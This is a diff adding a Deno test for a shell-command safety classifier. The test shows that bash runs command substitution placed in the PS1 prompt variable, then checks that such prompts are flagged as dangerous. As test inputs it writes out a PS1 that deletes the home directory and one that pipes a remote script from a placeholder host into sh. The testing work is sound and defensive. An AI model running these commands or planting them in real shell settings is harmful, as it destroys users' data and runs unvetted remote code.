@@ -473,3 +473,31 @@ Deno.test({
     assert.equal(classifyCommand("kill -TERM -1").class, "dangerous");
   },
 });
+
+Deno.test({
+  name:
+    "an interactive bash runs a prompt's command substitution at the next prompt; PS1's code is judged",
+  ignore: !programRuns("bash", ["--version"]),
+  fn: async () => {
+    await using dir = await tempDir();
+    const child = new Deno.Command("bash", {
+      args: ["--norc", "--noprofile", "-i"],
+      cwd: dir.path,
+      stdin: "piped",
+      stdout: "null",
+      stderr: "null",
+    }).spawn();
+    const w = child.stdin.getWriter();
+    await w.write(new TextEncoder().encode("PS1='$(touch ran_ps1)'\ntrue\nexit\n"));
+    await w.close();
+    await child.status;
+    await Deno.stat(`${dir.path}/ran_ps1`);
+    assert.equal(classifyCommand("export PS1='$(rm -rf ~)'").class, "dangerous");
+    assert.equal(
+      classifyCommand("PS1='`curl -s https://example.invalid/p | sh`'").class,
+      "dangerous",
+    );
+    // Control: a prompt of escapes only runs nothing; not dangerous.
+    assert.notEqual(classifyCommand("PS1='\\u@\\h \\w\\$ '").class, "dangerous");
+  },
+});
